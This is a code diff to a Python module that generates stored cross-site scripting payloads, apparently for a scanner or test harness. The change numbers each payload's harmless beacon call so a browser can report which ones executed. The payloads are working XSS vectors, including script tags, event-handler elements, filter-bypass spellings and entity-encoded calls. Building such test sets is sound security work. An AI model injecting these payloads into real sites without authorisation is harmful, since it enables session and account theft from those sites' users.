@@ -1,10 +1,13 @@
-"""Stored cross-site scripting: markup of the known classes that calls `window.__hit()` where nobody escapes or cleans it."""
+"""Stored cross-site scripting: markup of the known classes that calls `window.__hit()` where nobody escapes or cleans it.
+
+Each call tells the payload's number, so that a browser can say which ones ran.
+"""
 
 from collections.abc import Iterator
 from html import escape
 from itertools import product
 
-CALL = "window.__hit()"
+CALL = "window.__hit(%d)"
 # Elements that run something by themselves, with the event that they have.
 BY_THEMSELVES = {
     "img src=x": "onerror", "svg": "onload", "body": "onload", "video src=x": "onerror", "audio src=x": "onerror",
@@ -48,7 +51,7 @@ BREAK_OUTS = (
 )  # fmt: skip
 TAGS = (
     "<script>{call}</script>", "<img src=x onerror={call}>", "<svg/onload={call}>", "<SCRIPT>{call}</SCRIPT >", "<svg><script>{call}</script></svg>",
-    "<svg><script>{coded}</script></svg>", "<iframe srcdoc='&lt;script&gt;parent.__hit()&lt;/script&gt;'></iframe>", "<script type=module>{call}</script>",
+    "<svg><script>{coded}</script></svg>", "<iframe srcdoc='&lt;script&gt;parent.{hit}&lt;/script&gt;'></iframe>", "<script type=module>{call}</script>",
     "<details open ontoggle={call}>", "<svg><animate onbegin={call} attributeName=x dur=1s>", "<svg><set onbegin={call}>", "<scr<script>ipt>{call}</script>",
 )  # fmt: skip
 # Where words are put into a script, a style sheet, a template or a text for other programs.
@@ -61,20 +64,23 @@ OTHERS = (
 
 
 def _all() -> Iterator[str]:
-    coded, hexed = ("".join(form % ord(c) for c in CALL) for form in ("&#%d;", "&#x%x;"))
     for (element, event), spelling in product(BY_THEMSELVES.items(), SPELLINGS):
-        yield f"<{element}" + spelling.format(event=event, EVENT=event.upper(), call=CALL, coded=coded, hexed=hexed)
+        yield f"<{element}" + spelling.replace("{event}", event).replace("{EVENT}", event.upper())
     for link, scheme in product(LINKS, SCHEMES):
-        yield link.replace(
-            "{url}",
-            escape(scheme.replace("{call}", CALL)) + CALL
-            if "{call}" not in scheme
-            else escape(scheme.replace("{call}", CALL)),
-        )
-        yield link.replace("{url}", scheme.replace("{call}", CALL) + CALL)
+        url = scheme if "{call}" in scheme else f"{scheme}{{call}}"
+        yield link.replace("{url}", escape(url))
+        yield link.replace("{url}", url)
     for broken, tag in product(BREAK_OUTS, TAGS):
-        yield broken.replace("{tag}", tag.replace("{call}", CALL).replace("{coded}", coded))
-    yield from (other.replace("{call}", CALL) for other in OTHERS)
+        yield broken.replace("{tag}", tag)
+    yield from OTHERS
 
 
-PAYLOADS = list(dict.fromkeys(_all()))
+def _numbered(payload: str, number: int) -> str:
+    call = CALL % number
+    coded, hexed = ("".join(form % ord(c) for c in call) for form in ("&#%d;", "&#x%x;"))
+    for name, value in {"call": call, "coded": coded, "hexed": hexed, "hit": call.partition(".")[2]}.items():
+        payload = payload.replace(f"{{{name}}}", value)
+    return payload
+
+
+PAYLOADS = [_numbered(payload, number) for number, payload in enumerate(dict.fromkeys(_all()))]
